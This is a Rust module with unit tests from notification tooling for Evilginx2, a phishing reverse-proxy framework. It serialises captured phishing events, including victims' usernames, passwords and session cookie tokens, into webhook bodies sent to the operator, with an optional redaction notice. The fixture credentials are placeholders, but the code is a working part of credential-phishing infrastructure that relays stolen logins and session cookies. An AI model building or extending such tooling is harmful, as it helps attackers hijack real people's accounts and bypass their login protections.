use crate::core::{error::NotifyResult, event::EventPayload, notifier::NotifierConfig};

/// Sent instead of the event whenever `hide_sensitive` is set.
pub const REDACTED_NOTICE: &str = "This is a Notification from Evilginx2. It does not contain any more information, because the HideSensitive Setting is active";

pub fn build_body(notifier: &NotifierConfig, event: &EventPayload) -> NotifyResult<Vec<u8>> {
    if notifier.hide_sensitive {
        return Ok(REDACTED_NOTICE.as_bytes().to_vec());
    }
    Ok(serde_json::to_vec(event)?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::event::{HeartbeatEvent, TestEvent, UnauthorizedEvent, VisitorEvent};
    use crate::core::notifier::{EventKind, TransportMethod};
    use crate::core::session::{CookieToken, Session};

    fn notifier(hide_sensitive: bool) -> NotifierConfig {
        let mut n = NotifierConfig::new(
            "hook",
            TransportMethod::HttpPost,
            "http://localhost/hook",
            EventKind::Visitor,
        );
        n.hide_sensitive = hide_sensitive;
        n
    }

    fn unauthorized() -> UnauthorizedEvent {
        UnauthorizedEvent {
            phishlet: "o365".into(),
            req_url: "https://login.example.com/".into(),
            useragent: "curl/8.0".into(),
            remote_addr: "203.0.113.9".into(),
        }
    }

    fn visitor() -> VisitorEvent {
        let mut session = Session {
            id: 7,
            phishlet: "o365".into(),
            username: "alice@example.com".into(),
            password: "hunter2".into(),
            session_id: "abc".into(),
            ..Default::default()
        };
        session.add_cookie_token(
            ".example.com",
            CookieToken {
                name: "SID".into(),
                value: "s3cr3t".into(),
                path: "/".into(),
                http_only: true,
            },
        );
        VisitorEvent {
            session,
            tokens: String::new(),
        }
    }

    fn all_events() -> Vec<EventPayload> {
        vec![
            unauthorized().into(),
            visitor().into(),
            HeartbeatEvent("alive".into()).into(),
            TestEvent::now().into(),
        ]
    }

    #[test]
    fn redaction_replaces_every_variant() {
        let n = notifier(true);
        for event in all_events() {
            let body = build_body(&n, &event).unwrap();
            assert_eq!(body, REDACTED_NOTICE.as_bytes());
        }
    }

    #[test]
    fn unauthorized_body_round_trips() {
        let body = build_body(&notifier(false), &unauthorized().into()).unwrap();
        let decoded: UnauthorizedEvent = serde_json::from_slice(&body).unwrap();
        assert_eq!(decoded, unauthorized());
    }

    #[test]
    fn visitor_body_round_trips() {
        let body = build_body(&notifier(false), &visitor().into()).unwrap();
        let decoded: VisitorEvent = serde_json::from_slice(&body).unwrap();
        assert_eq!(decoded, visitor());
        assert!(!String::from_utf8(body).unwrap().contains(REDACTED_NOTICE));
    }

    #[test]
    fn test_and_heartbeat_bodies_round_trip_through_the_enum() {
        let n = notifier(false);
        for event in [
            EventPayload::from(TestEvent::now()),
            EventPayload::from(HeartbeatEvent("up 3m".into())),
        ] {
            let body = build_body(&n, &event).unwrap();
            let decoded: EventPayload = serde_json::from_slice(&body).unwrap();
            assert_eq!(decoded, event);
        }
    }

    #[test]
    fn visitor_session_goes_out_under_capitalized_key() {
        let body = build_body(&notifier(false), &visitor().into()).unwrap();
        let value: serde_json::Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(value["Session"]["username"], "alice@example.com");
        assert!(value.get("session").is_none());
        assert_eq!(value["tokens"], "");
    }

    #[test]
    fn body_is_a_flat_record() {
        let body = build_body(&notifier(false), &unauthorized().into()).unwrap();
        let value: serde_json::Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(value["phishlet"], "o365");
        assert_eq!(value["remote_addr"], "203.0.113.9");
    }
}
